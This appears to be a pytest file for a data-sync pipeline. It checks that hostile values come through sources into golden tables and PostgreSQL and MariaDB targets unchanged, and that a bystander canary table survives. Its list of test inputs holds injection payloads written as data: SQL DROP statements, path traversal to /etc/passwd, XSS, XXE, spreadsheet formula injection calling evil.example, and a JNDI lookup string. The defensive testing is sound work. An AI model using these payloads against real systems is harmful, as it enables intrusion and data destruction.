"""Hostile values, from sources through a sync into golden and targets: they come out as they went in, and do nothing else."""

from __future__ import annotations

import json
import re
import sqlite3
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from tests.pipelines.world import World
from tests.servers import MARIADB, POSTGRES
from tests.warehouse.targets.kit import Database, target_database

pytestmark = pytest.mark.server

KNOWN = [
    "'; DROP TABLE golden.customer; --",
    '"; DROP SCHEMA golden CASCADE; --',
    "' OR '1'='1",
    "\\'; DROP TABLE bystander; --",
    "`; DROP DATABASE test; #",
    "$$; COPY (SELECT 1) TO '/tmp/owned'; $$",
    "%s %(name)s {name} {} ${HOME} $1 :name ? %00",
    "'); ATTACH '/etc/passwd' AS p; --",
    "../../../../etc/passwd",
    "/etc/passwd\x00.csv",
    "con:stream:..\\..\\x",
    "*?[a-z]**/",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "[click](javascript:alert(1)) ![](http://evil.example/x.png)",
    '=HYPERLINK("http://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\x1b]0;owned\x07\x1b[2Jgone",
    "line\nbreak\r\nand\ttab",
    "{{ 7*7 }}{% raw %}${jndi:ldap://evil.example/a}",
    "\u202egnp.exe\u2066\u200b\ufeff",
    "\u2028\u2029\x85",
    "an ID that ends in a blank\xa0",
    "a\x00b",
    "half a pair \ud800 and \udc00",
    "NULL",
    "null",
    "\\N",
    "NaN",
    "1e400",
    "0x41",
    "\\u0000\\x00\\",
    '{"a": [1, "b"]}',
    "[/red][bold]",
    'O\'Brien "the" `tick` \\back',
    "ẞ" * 50 + "İ" * 50,
    "A" * 100_000,
    "Dr. " * 4_000,
    "(" * 20_000,
    "a@" * 10_000,
    "<a " * 10_000,
    "1" * 20_000,
    "-" * 20_000 + "!",
]
META = "'\"`\\;%_$&|<>(){}[]=+-@#*?/:.,\x00\x1b\r\n\t\u2028\u202e\ufeff\ud800😀éß"
hostile = st.text(st.one_of(st.sampled_from(META), st.characters()), min_size=1, max_size=30)
CANARY = ("bystander", "stays")


def whole(text: str) -> str:
    """The text without halves of pairs of surrogates, which are no characters."""
    return "".join("\ufffd" if "\ud800" <= c <= "\udfff" else c for c in text)


def bare(text: str | None) -> str:
    """A text without what is blank at its ends, which nothing promises to keep."""
    return (text or "").strip()


@contextmanager
def bystanders(databases: dict[str, Database]) -> Iterator[None]:
    """A table of somebody else's in each target, which must be as it was afterwards."""
    for db in databases.values():
        db.run(
            f"DROP TABLE IF EXISTS {CANARY[0]}",
            f"CREATE TABLE {CANARY[0]} (said varchar(20))",
            f"INSERT INTO {CANARY[0]} VALUES ('{CANARY[1]}')",
        )
    try:
        yield
        for db in databases.values():
            assert db.ask(f"SELECT said FROM {CANARY[0]}") == [(CANARY[1],)]
    finally:
        for db in databases.values():
            db.run(f"DROP TABLE IF EXISTS {CANARY[0]}")


def config(databases: dict[str, Database], root: Path) -> dict[str, Any]:
    party = {
        "full_name": "name",
        "email": "email",
        "phone": "phone",
        "company_name": "firm",
        "address_line1": "street",
        "birth_date": "born",
    }
    ticket = {"subject": "subject", "opened_at": "at", "status": "state"}
    streams = {
        "people": {"path": "in/people.jsonl", "kind": "party", "id": "id", "fields": party},
        "tickets": {"path": "in/tickets.jsonl", "kind": "ticket", "id": "id", "customer": "who", "fields": ticket},
    }
    tables = {
        "people": {
            "table": "people",
            "kind": "party",
            "id": "id",
            "fields": {"full_name": "name", "address_line1": 'it\'s "a" column'},
        },
        "tickets": {"table": "tickets", "kind": "ticket", "id": "id", "customer": "who", "fields": ticket},
    }
    return {
        "publish": [
            {"name": name, "url": f"${{{name.upper()}_URL}}", "schema_prefix": db.prefix} for name, db in databases.items()
        ],
        "sources": {
            "crm": {"type": "files", "streams": streams, "schema_drift": "evolve"},
            "erp": {"type": "sql", "url": "${ERP_URL}", "streams": tables, "schema_drift": "evolve"},
        },
    }


def fill(root: Path, values: list[str]) -> None:
    """A person and a ticket for each value, which is in every field and in the name of one; in a file and in a database."""
    (root / "in").mkdir()
    with (root / "in" / "people.jsonl").open("w") as people, (root / "in" / "tickets.jsonl").open("w") as tickets:
        for n, v in enumerate(values):
            person = {"id": f"{n}{v}", "name": v, "email": v, "phone": v, "firm": v, "street": v, "born": v, f"more {v[:100]}": v}
            people.write(json.dumps(person) + "\n")
            told = {"id": f"{n}{v}", "who": f"{n}{v}", "subject": v, "at": "2026-03-01T10:00:00Z", "state": v}
            tickets.write(json.dumps(told) + "\n")
    erp = sqlite3.connect(root / "erp.db")
    erp.execute('CREATE TABLE people (id text, name text, "it\'s ""a"" column" text)')
    erp.execute("CREATE TABLE tickets (id text, who text, subject text, at text, state text)")
    for n, v in enumerate(values):
        text = whole(v)  # SQLite takes no halves of pairs
        erp.execute("INSERT INTO people VALUES (?, ?, ?)", (f"{n}{text}", text, text))
        erp.execute("INSERT INTO tickets VALUES (?, ?, ?, ?, ?)", (f"{n}{text}", f"{n}{text}", text, "2026-03-01T10:00:00Z", text))
    erp.commit()
    erp.close()


def schemas(db: Database) -> list[str]:
    """All that are there but for those of tests, which may run beside this one."""
    return [name for name in sa.inspect(db.engine).get_schema_names() if not re.fullmatch(r"t[0-9a-f]{8}_\w+", name)]


@given(values=st.lists(hostile, min_size=20, max_size=60))
@settings(max_examples=2, deadline=None, phases=[Phase.generate], suppress_health_check=list(HealthCheck))
def test_hostile_values_come_out_as_they_went_in_and_do_nothing_else(values: list[str]) -> None:
    values = [*KNOWN, *values]
    with (
        tempfile.TemporaryDirectory() as temporary,
        pytest.MonkeyPatch.context() as patched,
        target_database("postgres", patched) as pg,
        target_database("mariadb", patched) as maria,
        bystanders({"pg": pg, "maria": maria}),
    ):
        root = Path(temporary) / "hub"
        root.mkdir()
        databases = {"pg": pg, "maria": maria}
        for name, value in {"PG_URL": POSTGRES, "MARIA_URL": MARIADB, "ERP_URL": f"sqlite:///{root}/erp.db"}.items():
            patched.setenv(name, value)
        before = {name: schemas(db) for name, db in databases.items()}
        fill(root, values)
        world = World(root, config(databases, root))
        outcome = world.sync()
        assert (outcome.action, outcome.errors, outcome.exit_code) == ("published", {}, 0), outcome
        assert {name: schemas(db) for name, db in databases.items()} == before
        assert {path.name for path in Path(temporary).iterdir()} == {"hub"}
        assert {path.name for path in root.iterdir()} == {"hub.yaml", "in", "erp.db", "data", "var"}

        # what golden has of them is the same text, or nothing; an ID that is no text is in quarantine, with its row
        asked = "SELECT source_system, source_record_id, subject FROM golden.ticket"
        halves = [v for v in values if whole(v) != v]
        wanted = {("crm", bare(f"{n}{v}")): bare(v) for n, v in enumerate(values) if v not in halves}
        wanted |= {("erp", bare(f"{n}{whole(v)}")): bare(whole(v)) for n, v in enumerate(values)}
        assert {(source, bare(key)): bare(subject) for source, key, subject in world.ask(asked)} == wanted
        assert world.ask("SELECT count(*) FROM identity.customer_xref WHERE is_current") == [(len(wanted),)]
        assert world.ask("SELECT count(*) FROM golden.ticket WHERE customer_id IS NULL") == [(0,)]
        turned_down = world.ask("SELECT reason, count(*) FROM quality.quarantine WHERE reason LIKE '%half%' GROUP BY ALL")
        assert turned_down == [("the ID holds half a character", 2 * len(halves))]

        # and targets have what golden has; PostgreSQL's text cannot hold the character 0
        golden = sorted(subject for _, _, subject in world.ask(asked) if subject)
        assert sorted(s for (s,) in maria.ask("SELECT subject FROM {golden.ticket}") if s) == golden
        assert sorted(s for (s,) in pg.ask("SELECT subject FROM {golden.ticket}") if s) == sorted(
            s for s in (g.replace("\x00", "") for g in golden) if s
        )
